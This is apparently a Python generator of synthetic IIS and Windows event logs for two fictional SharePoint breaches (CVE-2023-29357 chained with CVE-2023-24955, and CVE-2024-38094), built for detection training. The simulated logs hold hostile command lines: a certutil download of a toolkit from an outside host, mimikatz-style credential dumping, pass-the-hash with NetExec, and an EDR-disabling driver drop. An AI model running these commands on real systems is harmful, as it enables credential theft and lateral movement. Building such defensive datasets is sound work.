#!/usr/bin/env python3
"""Generates two small SharePoint incidents at the fictional Northwind Traders:

  examples/sharepoint-cve-2023-29357/  intranet farm (SharePoint 2019), October 2023: forged-JWT authentication
                                       bypass (CVE-2023-29357) chained with BDC code injection (CVE-2023-24955)
  examples/sharepoint-cve-2024-38094/  the same farm, July 2024: a site owner's stolen account uploads a crafted
                                       BDC model (CVE-2024-38094), a webshell under DelveApi.ashx/config, tools
                                       staged under C:\\ProgramData\\VMware\\

Each holds an IIS W3C log and Windows events as JSON lines in evtx_dump shape. Deterministic (fixed seeds).
    python3 examples/tools/gen_sharepoint_cves.py [--list]
"""
import os
import random
import sys
from datetime import datetime, timedelta

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import gen_sharepoint_toolshell_host as host  # noqa: E402  (evtx_dump channels, process and file helpers)

HERE = os.path.dirname(os.path.abspath(__file__))
HOST_NAME = "intranet.northwindtraders.com"
SERVER, SERVER_IP = "SP19-WFE01", "10.30.1.15"
FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
          "sc-status sc-substatus sc-win32-status time-taken")
UA_EDGE = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/118.0.0.0+Safari/537.36+Edg/118.0.2088.46"
UA_WORD = "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Word+16.0.16827;+Pro)"
USERS = [("NWT\\m.alvarez", "10.20.34.18"), ("NWT\\j.chen", "10.20.36.14"), ("NWT\\l.brennan", "10.20.33.52"),
         ("NWT\\a.novak", "10.20.34.61"), ("NWT\\p.garner", "10.20.35.90"), ("NWT\\r.patel", "10.20.33.140")]
SP_POOL = host.SP_POOL.replace("SharePoint - 80", "SharePoint - intranet")
BDCM = ("/_vti_bin/client.svc/web/GetFolderByServerRelativeUrl('/BusinessDataMetadataCatalog/')/Files/"
        "add(url='/BusinessDataMetadataCatalog/BDCMetadata.bdcm',overwrite=true)")


class W3c:
    def __init__(self):
        self.rows = []

    def add(self, t, method, stem, query, user, ip, ua, status, sub=0, win32=0, taken=0, ref=None, mark=None):
        self.rows.append((t, len(self.rows), [t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), SERVER_IP, method, stem,
                                              query or "-", "443", user or "-", ip, ua or "-", ref or "-", str(status),
                                              str(sub), str(win32), str(taken)], mark))

    def render(self, day):
        lines = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
                 "#Date: " + day.strftime("%Y-%m-%d") + " 00:00:03", "#Fields: " + FIELDS]
        marks = []
        for _, _, cols, mark in sorted(self.rows, key=lambda r: (r[0], r[1])):
            lines.append(" ".join(cols))
            if mark:
                marks.append((len(lines), mark))
        return "\r\n".join(lines) + "\r\n", marks


def ordinary(log, rnd, day):
    t = day + timedelta(hours=12, minutes=10)
    while t < day + timedelta(hours=22):
        user, ip = rnd.choice(USERS)
        kind = rnd.random()
        if kind < 0.4:
            log.add(t, "GET", "/SitePages/Home.aspx", "", user, ip, UA_EDGE, 200, taken=rnd.randint(90, 600))
            log.add(t, "GET", "/_api/web/currentuser", "", user, ip, UA_EDGE, 200, taken=rnd.randint(5, 40),
                    ref="https://" + HOST_NAME + "/SitePages/Home.aspx")
        elif kind < 0.6:
            log.add(t, "POST", "/_vti_bin/client.svc/ProcessQuery", "", user, ip, UA_EDGE, 200, taken=rnd.randint(20, 200))
        elif kind < 0.75:
            log.add(t, "GET", "/sites/projects/Shared%20Documents/Plan.docx", "", user, ip, UA_WORD, 200, taken=rnd.randint(30, 300))
        elif kind < 0.85:
            log.add(t, "POST", "/_vti_bin/client.svc/web/GetFolderByServerRelativeUrl('/sites/projects/Shared%20Documents/')"
                    "/Files/add(url='Status.docx',overwrite=true)", "", user, ip, UA_EDGE, 200, taken=rnd.randint(60, 400))
        else:  # the reporting job: python-requests with NTLM credentials on the REST API (a near-miss)
            log.add(t, "GET", "/_api/web/lists", "$select=Title,ItemCount", "NWT\\svc_report", "10.30.1.40",
                    "python-requests/2.31.0", 200, taken=rnd.randint(20, 90))
        t += timedelta(minutes=rnd.randint(3, 11), seconds=rnd.randint(0, 59))


def start(seed, day):
    """A day of ordinary IIS traffic and an empty host, both drawn from one seeded generator."""
    rnd = random.Random(seed)
    log = W3c()
    ordinary(log, rnd, day)
    return rnd, log, host.Host(SERVER, rnd)


def save(folder, log, day, box, listing):
    write_all(os.path.join(HERE, "..", folder), {
        os.path.join(SERVER, "W3SVC1", "u_ex" + day.strftime("%y%m%d") + ".log"): log.render(day),
        os.path.join(SERVER, "EventLogs", "sysmon.jsonl"): box.sysmon.render(),
        os.path.join(SERVER, "EventLogs", "security.jsonl"): box.security.render()}, listing)


def cve_2023_29357(listing):
    day = datetime(2023, 10, 2)
    rnd, log, box = start(20231002, day)
    a = "203.0.113.147"
    log.add(datetime(2023, 10, 2, 3, 12, 55), "GET", "/_api/web/siteusers", "", None, a, "python-requests/2.31.0", 401, 0, 0, 3,
            mark="bypass attempt without a token: 401")
    log.add(datetime(2023, 10, 2, 3, 13, 2), "GET", "/_api/web/siteusers", "", None, a, "python-requests/2.31.0", 200, taken=48,
            mark="CVE-2023-29357: forged JWT accepted, site users listed")
    log.add(datetime(2023, 10, 2, 3, 13, 4), "GET", "/_api/web/currentuser", "", None, a, None, 200, taken=21,
            mark="CVE-2023-29357: impersonated user confirmed (no user agent)")
    log.add(datetime(2023, 10, 2, 3, 14, 37), "POST", BDCM, "", None, a, "python-requests/2.31.0", 200, taken=311,
            mark="CVE-2023-24955: crafted BDC model uploaded")
    log.add(datetime(2023, 10, 2, 3, 14, 40), "POST", "/_vti_bin/client.svc/ProcessQuery", "", None, a, "python-requests/2.31.0",
            200, taken=905, mark="CVE-2023-24955: model loaded, code runs in w3wp")
    t = datetime(2023, 10, 2, 3, 14, 41, 230000)
    cmd = box.process(t, host.CMD, "cmd.exe /c whoami & hostname & ipconfig /all", host.W3WP, SP_POOL, 5120,
                      mark="w3wp.exe of the SharePoint pool starts cmd.exe", security_mark="4688 of that cmd.exe")
    box.process(t + timedelta(seconds=9), host.CMD, "cmd.exe /c net group \"Domain Admins\" /domain", host.W3WP, SP_POOL, 5120,
                mark="w3wp.exe starts cmd.exe: domain discovery")
    del cmd
    # ordinary: page compilation in the same pool (w3wp → csc.exe) and a timer-job PowerShell
    box.process(datetime(2023, 10, 2, 13, 2, 9), host.CSC, host.CSC + " /noconfig /fullpaths @\"C:\\Windows\\Temp\\x1.cmdline\"",
                host.W3WP, SP_POOL, 5120)
    box.process(datetime(2023, 10, 2, 14, 0, 1), host.POWERSHELL, host.POWERSHELL + " -NoProfile -File D:\\Scripts\\Check-SPHealth.ps1",
                host.OWSTIMER, '"' + host.OWSTIMER + '"', 2212, user="NWT\\svc_spfarm")
    save("sharepoint-cve-2023-29357", log, day, box, listing)


def cve_2024_38094(listing):
    day = datetime(2024, 7, 22)
    rnd, log, box = start(20240722, day)
    a = "18.195.61.200"
    owner = "NWT\\p.garner"
    log.add(datetime(2024, 7, 22, 15, 41, 7), "POST", BDCM, "", owner, a, "python-requests/2.32.3", 200, taken=287,
            mark="CVE-2024-38094: BDCMetadata.bdcm uploaded with the site owner's stolen account")
    log.add(datetime(2024, 7, 22, 15, 41, 10), "POST", "/_vti_bin/client.svc/ProcessQuery", "", owner, a, "python-requests/2.32.3",
            200, taken=1012, mark="CVE-2024-38094: model loaded, code runs")
    for second, status in ((44, 200), (58, 200)):
        log.add(datetime(2024, 7, 22, 15, 43, second), "POST", "/_vti_bin/DelveApi.ashx/config/ghostfile93.aspx", "", None, a,
                None, status, taken=77, mark="webshell ghostfile93.aspx through DelveApi.ashx/config")
    log.add(datetime(2024, 7, 22, 16, 5, 12), "GET", "/_vti_bin/DelveApi.ashx/config/ghostfile93.aspx", "", None, "198.51.100.61",
            None, 404, 0, 2, 1, mark="a scanner looks for the same shell on this server: 404 (not the incident)")
    staged = ["66.exe", "msvrp.exe", "certify.exe", "kerbrute_windows_amd64.exe", "nxc.exe", "adexplorer64.exe", "hrsword.exe"]
    t = datetime(2024, 7, 22, 15, 44, 20)
    cmd_line = "cmd.exe /c certutil -urlcache -split -f http://198.51.100.200/t.zip C:\\ProgramData\\VMware\\t.zip"
    cmd = box.process(t, host.CMD, cmd_line, host.W3WP, SP_POOL, 5120,
                      mark="webshell: w3wp.exe starts cmd.exe to fetch the toolkit")
    for index, name in enumerate(staged):
        box.file(t + timedelta(seconds=30 + index), "C:\\Windows\\System32\\tar.exe", cmd, "C:\\ProgramData\\VMware\\" + name,
                 mark="tool staged: " + name)
    runs = [("66.exe", 'C:\\ProgramData\\VMware\\66.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
            ("msvrp.exe", "C:\\ProgramData\\VMware\\msvrp.exe -c C:\\ProgramData\\VMware\\msvrp.ini"),
            ("nxc.exe", "C:\\ProgramData\\VMware\\nxc.exe smb 10.30.1.0/24 -u svc_spfarm -H <hash>"),
            ("hrsword.exe", "C:\\ProgramData\\VMware\\hrsword.exe")]
    for index, (name, command) in enumerate(runs):
        box.process(t + timedelta(minutes=3 + 4 * index), "C:\\ProgramData\\VMware\\" + name, command, host.CMD, cmd_line, cmd,
                    mark="tool run: " + name, security_mark="4688: " + name)
    box.file(t + timedelta(minutes=16), "C:\\ProgramData\\VMware\\hrsword.exe", 9120,
             "C:\\Windows\\System32\\drivers\\sysdiag_win10.sys", mark="Huorong driver dropped to break EDR")
    # ordinary: VMware Tools itself, and its log under ProgramData\VMware (near-misses)
    box.process(datetime(2024, 7, 22, 6, 0, 2), "C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe",
                '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"', "C:\\Windows\\System32\\services.exe",
                "C:\\Windows\\system32\\services.exe", 668, user="NT AUTHORITY\\SYSTEM", integrity="System")
    box.file(datetime(2024, 7, 22, 6, 0, 4), "C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe", 2310,
             "C:\\ProgramData\\VMware\\VMware Tools\\vmtoolsd.log")
    save("sharepoint-cve-2024-38094", log, day, box, listing)


def write_all(out, files, listing):
    for relative, (text, marks) in files.items():
        host.write(os.path.join(out, relative), text)
        if listing:
            for number, mark in marks:
                print(f"{os.path.basename(out)}/{relative}:{number}: {mark}")


if __name__ == "__main__":
    cve_2023_29357("--list" in sys.argv)
    cve_2024_38094("--list" in sys.argv)
